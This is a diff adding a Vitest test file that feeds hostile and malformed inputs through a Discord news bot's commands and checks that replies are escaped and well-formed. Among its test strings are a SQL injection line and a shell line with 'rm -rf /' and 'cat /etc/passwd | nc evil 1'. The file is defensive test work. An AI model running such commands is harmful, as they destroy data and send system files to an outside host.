@@ -1,0 +1,177 @@
+// Questions and options a public server will send: empty, blank, punctuation, one letter, the longest Discord
+// allows and longer, emoji, right-to-left text and overrides, combining-mark floods, control characters, NUL,
+// half surrogate pairs, markdown bombs, mentions, links, code, SQL and shell. Each goes through the handler
+// and the real commands; each gets a clear reply or a clean "the articles don't say", never an error, and
+// every message is one Discord accepts with nothing that pings, formats or reverses.
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { handle, ERROR_MESSAGE } from '../../src/bot/handler.ts';
+import { autocompleteInteraction, buttonInteraction, commandInteraction, corpus, harness, type Harness } from '../support/context.ts';
+import { ROOT } from '../support/bot.ts';
+import { bodyProblems, quoteOf, wireBody } from '../support/messages.ts';
+
+const ICC = 'who called for an ICC investigation?';
+const NOT_A_QUESTION = "**The articles don't say.** That is not a question I can look up: ask about something in the articles.";
+
+interface Case {
+  readonly name: string;
+  readonly question: string;
+  /** The reply, when it is a short message rather than an answer. */
+  readonly reply?: string;
+  /** What the answer's first line shows of the question (after "**Q:** "). */
+  readonly echo?: string;
+  /** A line the answer's description holds besides. */
+  readonly says?: string;
+}
+
+const padded = (n: number) => `${ICC} ${'and more words about it '.repeat(20)}`.slice(0, n);
+
+const CASES: readonly Case[] = [
+  { name: 'empty', question: '', reply: 'The question needs at least 1 character.' },
+  { name: 'whitespace only', question: ' \t  ', says: NOT_A_QUESTION },
+  { name: 'punctuation only', question: '?!…—;:()', says: NOT_A_QUESTION },
+  { name: 'one character', question: 'a', says: NOT_A_QUESTION },
+  { name: 'the longest allowed (300)', question: padded(300), echo: padded(300).trim() },
+  { name: 'one over (301)', question: padded(301), reply: 'The question is too long: 301 characters, and the most is 300. Please shorten it and try again.' },
+  { name: 'far over (100,000)', question: 'x'.repeat(100_000), reply: 'The question is too long: 100000 characters, and the most is 300. Please shorten it and try again.' },
+  { name: 'emoji', question: `🇫🇷 👨‍👩‍👧 ${ICC} 🔥`, echo: `🇫🇷 👨‍👩‍👧 ${ICC} 🔥` },
+  // 300 characters as Discord counts them, 600 UTF-16 units: allowed.
+  { name: '300 emoji', question: '😀'.repeat(300), says: NOT_A_QUESTION },
+  { name: 'right-to-left script', question: 'من دعا إلى تحقيق المحكمة الجنائية الدولية؟', echo: 'من دعا إلى تحقيق المحكمة الجنائية الدولية؟' },
+  { name: 'right-to-left override', question: `\u202Eevil\u202C ${ICC}`, echo: `evil ${ICC}` },
+  { name: 'combining-mark flood', question: `Z${'\u0336\u0335\u0334'.repeat(80)} ${ICC}`, echo: `Z\u0336\u0335\u0334 ${ICC}` },
+  { name: 'control characters', question: `\u0001\u0007who\u001bcalled\u0008 for an ICC investigation?`, echo: ICC },
+  { name: 'NUL', question: `who\u0000 called for an ICC investigation?`, echo: ICC },
+  { name: 'half surrogate pairs', question: `\uD83D ${ICC} \uDE00`, echo: `\uFFFD ${ICC} \uFFFD` },
+  { name: 'zero-width characters', question: `\u200B\u200Bwho\uFEFF called for an ICC investigation?`, echo: ICC },
+  { name: 'line breaks', question: 'who\ncalled\r\nfor an ICC\u2028investigation?', echo: ICC },
+  { name: 'markdown bomb', question: '**__~~||`#>-[x](http://e.x) *'.repeat(8), echo: '\\*\\*\\_\\_\\~\\~\\|\\|\\`\\#\\>\\-\\[x\\](http://e.x) \\*'.repeat(8) },
+  { name: 'mentions', question: `@everyone @here <@&456> <@123> <#789> ${ICC}`, echo: `@everyone @here \\<@&456\\> \\<@123\\> \\<\\#789\\> ${ICC}` },
+  { name: 'a link with markup in it', question: 'https://evil.example/?q=<@123>&x=`1`', echo: 'https://evil.example/?q=\\<@123\\>&x=\\`1\\`' },
+  { name: 'a code block', question: '```js\nprocess.exit(1)\n``` who called', echo: '\\`\\`\\`js process.exit(1) \\`\\`\\` who called' },
+  { name: 'SQL', question: `'; DROP TABLE articles; -- ${ICC}`, echo: `'; DROP TABLE articles; \\-\\- ${ICC}` },
+  { name: 'shell', question: '$(rm -rf /) `reboot` && cat /etc/passwd | nc evil 1 ; who called', echo: '$(rm \\-rf /) \\`reboot\\` && cat /etc/passwd \\| nc evil 1 ; who called' },
+  { name: 'timestamp and emoji markup', question: '<t:0:R> <:x:1> <a:y:2> who called', echo: '\\<t:0:R\\> \\<:x:1\\> \\<a:y:2\\> who called' },
+];
+
+describe('hostile questions through /ask', () => {
+  let h: Harness;
+
+  beforeAll(async () => {
+    h = await harness(join(ROOT, 'seeds'));
+  });
+  afterAll(async () => {
+    await h.close();
+  });
+
+  for (const c of CASES) {
+    it(c.name, async () => {
+      const { interaction, recording } = commandInteraction('ask', { question: c.question });
+      await handle(interaction, h.commands, h.ctx);
+      expect(recording.sent.length).toBeGreaterThan(0);
+      for (const s of recording.sent) {
+        expect(s.message.content).not.toBe(ERROR_MESSAGE);
+        expect(bodyProblems(wireBody(s.message))).toEqual([]);
+      }
+      const last = recording.sent.at(-1)!.message;
+      if (c.reply !== undefined) {
+        // Refused before any work: an immediate reply only the user sees.
+        expect(recording.deferred).toBe(false);
+        expect(last).toMatchObject({ content: c.reply, ephemeral: true });
+        return;
+      }
+      const embed = last.embeds![0]!;
+      const expected = h.engine.answer(c.question);
+      expect(embed.title).toBe(expected.kind === 'answer' ? 'Answer' : "The articles don't say");
+      const description = embed.description!;
+      if (c.echo !== undefined) expect(description.split('\n')[0]).toBe(`**Q:** ${c.echo}`);
+      if (c.says !== undefined) expect(description).toContain(c.says);
+      // The citations shown are the engine's, exact.
+      const cited = expected.kind === 'answer' ? expected.citations : expected.nearest;
+      (embed.fields ?? []).forEach((f, i) => {
+        const article = h.engine.corpus.index.articles.find((a) => a.id === cited[i]!.articleId)!;
+        expect(quoteOf(f.value).text).toBe(article.text.slice(cited[i]!.start, cited[i]!.end));
+      });
+    });
+  }
+
+  it('the feedback log still reads back, one JSON line per answer shown', () => {
+    const lines = readFileSync(join(h.dataDir, 'feedback.jsonl'), 'utf8').trim().split('\n');
+    const shown = CASES.filter((c) => c.reply === undefined);
+    expect(lines.length).toBe(shown.length);
+    expect(lines.map((l) => (JSON.parse(l) as { question: string }).question)).toEqual(shown.map((c) => c.question));
+  });
+});
+
+describe('the same through every other text option', () => {
+  let h: Harness;
+  beforeAll(async () => {
+    h = await harness(join(ROOT, 'seeds'));
+  });
+  afterAll(async () => {
+    await h.close();
+  });
+
+  const options: readonly { command: string; option: string; max: number; extra?: Record<string, string> }[] = [
+    { command: 'ask', option: 'article', max: 100, extra: { question: ICC } },
+    { command: 'quote', option: 'about', max: 200 },
+    { command: 'quote', option: 'speaker', max: 100 },
+    { command: 'quote', option: 'article', max: 100 },
+    { command: 'sources', option: 'filter', max: 60 },
+  ];
+
+  for (const o of options) {
+    it(`/${o.command} ${o.option}`, async () => {
+      for (const c of CASES) {
+        const { interaction, recording } = commandInteraction(o.command, { ...o.extra, [o.option]: c.question });
+        await handle(interaction, h.commands, h.ctx);
+        expect(recording.sent.length, c.name).toBeGreaterThan(0);
+        for (const s of recording.sent) {
+          expect(s.message.content, c.name).not.toBe(ERROR_MESSAGE);
+          expect(bodyProblems(wireBody(s.message)), c.name).toEqual([]);
+        }
+        const codePoints = [...c.question].length;
+        if (codePoints > o.max) expect(recording.sent.at(-1)!.message.content, c.name).toMatch(new RegExp(`^The ${o.option} is too long: ${codePoints} characters, and the most is ${o.max}\\.`));
+      }
+    });
+
+    if (!['article', 'speaker'].includes(o.option)) continue;
+    it(`/${o.command} ${o.option} autocomplete`, async () => {
+      for (const c of CASES) {
+        const { interaction, choices } = autocompleteInteraction(o.command, o.option, c.question);
+        await handle(interaction, h.commands, h.ctx);
+        const got = choices();
+        expect(got, c.name).not.toBeNull();
+        for (const choice of got!) {
+          expect(choice.name.length).toBeGreaterThan(0);
+          expect(choice.name.length).toBeLessThanOrEqual(100);
+          expect(choice.value.length).toBeLessThanOrEqual(100);
+        }
+      }
+    });
+  }
+
+  it('/sources with a filter of 60 emoji (120 UTF-16 units): searched as the 40 its page buttons can carry in 100', async () => {
+    const files: Record<string, string> = {};
+    for (let n = 1; n <= 10; n++) files[`fire-${n}.txt`] = `${'🔥'.repeat(60)} Harbour fire ${n}\n\nA fire broke out in warehouse ${n} at the harbour on Sunday night, the fire service said.\n`;
+    const dir = corpus(files);
+    const fire = await harness(dir.dir);
+    try {
+      const { interaction, recording } = commandInteraction('sources', { filter: '🔥'.repeat(60) });
+      await handle(interaction, fire.commands, fire.ctx);
+      const m = recording.sent[0]!.message;
+      expect(bodyProblems(wireBody(m))).toEqual([]);
+      expect(m.embeds![0]!.description!.split('\n')[0]).toBe(`Articles matching “${'🔥'.repeat(40)}”:`);
+      expect(m.embeds![0]!.footer!.text).toBe('Page 1 of 2 · 10 articles');
+      const next = wireBody(m).components as { components: { custom_id: string }[] }[];
+      expect(next[0]!.components.map((b) => b.custom_id)).toEqual([`sources:page:0:${'🔥'.repeat(40)}`, `sources:page:1:${'🔥'.repeat(40)}`]);
+      const { interaction: press, recording: pressed } = buttonInteraction(`sources:page:1:${'🔥'.repeat(40)}`);
+      await handle(press, fire.commands, fire.ctx);
+      expect(pressed.sent[0]!.message.embeds![0]!.footer!.text).toBe('Page 2 of 2 · 10 articles');
+    } finally {
+      await fire.close();
+      dir.remove();
+    }
+  });
+});
